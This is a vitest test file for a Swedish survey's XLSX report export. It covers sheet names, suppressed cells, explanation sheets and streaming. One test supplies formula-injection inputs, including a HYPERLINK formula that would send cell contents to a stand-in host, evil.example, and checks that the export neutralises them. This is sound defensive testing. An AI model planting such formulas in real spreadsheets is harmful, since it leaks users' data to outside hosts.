import { Writable } from "node:stream";
import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { reportXlsxBytes, sheetNames, writeReportXlsx, type XlsxReport, type XlsxTable } from "../../functions/domain/xlsx-report";
import { UNWEIGHTED_NOTE, type Cell } from "../../shared/schemas";

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klicka")', "+46 70 123", "-2+3", "@SUM(A1)", "\tindrag", "\rretur"];
const S: Cell = { suppressed: true };

function table(id: string, title: string, labels: string[], unit: XlsxTable["unit"] = "share"): XlsxTable {
  return {
    id,
    title: { sv: title, en: `${title} (en)` },
    unit,
    columns: [
      { key: "a", label: { sv: "Stort behov", en: "Large need" } },
      { key: "b", label: { sv: "Inget behov", en: "No need" } },
    ],
    rows: labels.map((label, i) => ({ segment: String(10 + i), label, n: i === 1 ? null : 7 + i, cells: i === 1 ? [S, S] : [{ value: 0.25 + i / 100, n: 7 + i }, { value: null, n: 7 + i }] })),
    total: { n: 40, cells: [{ value: 0.5, n: 40 }, S] },
  };
}

function report(tables: XlsxTable[], language: "sv" | "en" = "sv"): XlsxReport {
  return {
    language,
    title: { sv: "Omgång Vår, per kommun", en: "Round Vår, by municipality" },
    source: { sv: "omgång Vår", en: "round Vår" },
    release: { number: 2, kind: "interim", cutoff: "2026-04-10T07:00:00Z", createdAt: "2026-04-10T07:00:05Z", responding: 40, invited: 55, unit: "organisation", rules: { k: 5, p: 10 } },
    note: UNWEIGHTED_NOTE,
    tables,
    created: new Date("2026-04-11T08:00:00Z"),
  };
}

async function load(bytes: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  return wb;
}

function cells(ws: ExcelJS.Worksheet): ExcelJS.Cell[] {
  const out: ExcelJS.Cell[] = [];
  ws.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (c) => void out.push(c)));
  return out;
}

/** The data rows of a table sheet: from the header row (first cell "Segment") on. */
function dataRows(ws: ExcelJS.Worksheet): ExcelJS.CellValue[][] {
  const rows: ExcelJS.CellValue[][] = [];
  ws.eachRow((row) => void rows.push((row.values as ExcelJS.CellValue[]).slice(1)));
  return rows.slice(rows.findIndex((r) => r[0] === "Segment"));
}

describe("the XLSX report", () => {
  it("has the explanation sheet first, then one sheet per table, each named within Excel's rules", async () => {
    const titles = ["Behov: digitalisering, nu [andel]", "Behov: digitalisering, nu [andel]", "a/b\\c?d*e:f", "x".repeat(50), "history"];
    const wb = await load(await reportXlsxBytes(report(titles.map((t, i) => table(`t${i}`, t, ["Linköping"])))));
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toHaveLength(titles.length + 1);
    expect(names[0]).toBe("Förklaringar");
    expect(new Set(names.map((n) => n.toLowerCase())).size).toBe(names.length);
    for (const n of names) {
      expect(n.length).toBeLessThanOrEqual(31);
      expect(n).not.toMatch(/[[\]:*?/\\]/);
      expect(n.toLowerCase()).not.toBe("history");
    }
  });

  it("writes every value with its n in the column beside it, and the total row", async () => {
    const wb = await load(await reportXlsxBytes(report([table("needShare.x", "Behov", ["Linköping", "Motala", "Norrköping"])])));
    const rows = dataRows(wb.worksheets[1]);
    expect(rows[0]).toEqual(["Segment", "Namn", "n", "Stort behov", "n", "Inget behov", "n"]);
    expect(rows[1]).toEqual(["10", "Linköping", 7, 0.25, 7, "–", 7]);
    expect(rows[3]).toEqual(["12", "Norrköping", 9, 0.27, 9, "–", 9]);
    expect(rows[4].slice(0, 5)).toEqual(["Alla", undefined, 40, 0.5, 40]);
    expect(wb.worksheets[1].getCell("D9").numFmt).toBe("0.0%");
  });

  it("marks a suppressed value and its n with the word and a fill, never a number", async () => {
    for (const [language, word] of [["sv", "skyddad"], ["en", "suppressed"]] as const) {
      const wb = await load(await reportXlsxBytes(report([table("t", "Behov", ["Linköping", "Motala"])], language)));
      const ws = wb.worksheets[1];
      const marked = cells(ws).filter((c) => c.value === word);
      // Motala's row n and both its values with their n, and the total's second value with its n.
      expect(marked).toHaveLength(7);
      for (const c of marked) expect(c.fill).toMatchObject({ type: "pattern", pattern: "solid" });
      const motala = dataRows(ws).find((r) => r[1] === "Motala")!;
      expect(motala.slice(2).every((v) => v === word)).toBe(true);
    }
  });

  it("holds no formula, even where a label or title is written as one, and neutralises such text as the CSV export does", async () => {
    const hostileTables = HOSTILE.map((h, i) => table(`t${i}`, h, HOSTILE));
    const wb = await load(await reportXlsxBytes({ ...report(hostileTables), title: { sv: "=1+1", en: "=1+1" }, source: { sv: "@x", en: "@x" } }));
    const all = wb.worksheets.flatMap(cells);
    expect(all.length).toBeGreaterThan(100);
    for (const c of all) {
      expect(c.type, c.address).not.toBe(ExcelJS.ValueType.Formula);
      expect(c.formula, c.address).toBeUndefined();
      if (typeof c.value === "string") expect(c.value, c.address).not.toMatch(/^[=+\-@\t\r]/);
      else expect(["number", "undefined"]).toContain(typeof (c.value ?? undefined));
    }
    const labels = all.map((c) => c.value);
    // XML reads a CR back as LF; the apostrophe stays in front either way.
    for (const h of HOSTILE) expect(labels).toContain(`'${h}`.replace(/\r/g, "\n"));
  });

  it("explains the indicators its tables use and suppression with the release's k and p, in Swedish and English", async () => {
    const tables = (["share", "mean", "balance", "rate"] as const).map((unit) => table(unit, `Behov ${unit}`, ["Linköping"], unit));
    const wb = await load(await reportXlsxBytes(report(tables, "en")));
    const ws = wb.getWorksheet("Explanations")!;
    const text = cells(ws).map((c) => String(c.value)).join("\n");
    expect(text).toContain("Source: Kompetensbehov, round Vår, release 2 (interim release)");
    expect(text).toContain("n = 40 responding organisations of 55 invited");
    expect(text).toMatch(/Regel k = 5: .*färre än 5 svarande/);
    expect(text).toMatch(/Rule k = 5: .*fewer than 5 respondents/);
    expect(text).toMatch(/Rule p = 10%/);
    for (const word of ["Share:", "Net balance", "Nettotal", "Failed-recruitment rate", "Medelvärde"]) expect(text).toContain(word);
    // No table counts anything, so there is no line on counts.
    expect(text).not.toContain("Count:");
    // The contents list names each table's sheet.
    expect(text).toContain("Behov share (en)");
  });

  it("puts title, source, release, date and n above every table", async () => {
    const wb = await load(await reportXlsxBytes(report([table("t", "Behov", ["Linköping"])])));
    const head = cells(wb.worksheets[1]).slice(0, 6).map((c) => String(c.value));
    expect(head[0]).toBe("Omgång Vår, per kommun: Behov");
    expect(head[1]).toBe("Källa: Kompetensbehov, omgång Vår, publicering 2 (delpublicering)");
    expect(head[2]).toBe("Publicerad 2026-04-10 09:00, svar till och med 2026-04-10 09:00; n = 40 svarande organisationer av 55 inbjudna");
    expect(head[3]).toBe("Filen skapad 2026-04-11 10:00");
    expect(head[4]).toBe(UNWEIGHTED_NOTE.sv);
  });

  it("streams into the Writable it is given and resolves once that has finished", async () => {
    const chunks: Buffer[] = [];
    let finished = false;
    const out = new Writable({
      write(chunk: Buffer, _enc, done) {
        chunks.push(chunk);
        done();
      },
    });
    out.on("finish", () => (finished = true));
    await writeReportXlsx(report([table("t", "Behov", ["Linköping"])]), out);
    expect(finished).toBe(true);
    expect((await load(Buffer.concat(chunks))).worksheets).toHaveLength(2);
  });
});

describe("sheet names", () => {
  it("are cut to 31 characters and told apart by a suffix, without regard to case", () => {
    expect(sheetNames(["A".repeat(40), "a".repeat(40), "Förklaringar"], ["förklaringar"])).toEqual(["A".repeat(31), `${"a".repeat(27)} (2)`, "Förklaringar (2)"]);
  });

  it("lose Excel's forbidden characters and leading or trailing apostrophes, and are never empty", () => {
    expect(sheetNames(["'a[b]c:d*e?f/g\\h'", "  ", "[]"])).toEqual(["a b c d e f g h", "Tabell", "Tabell (2)"]);
  });
});
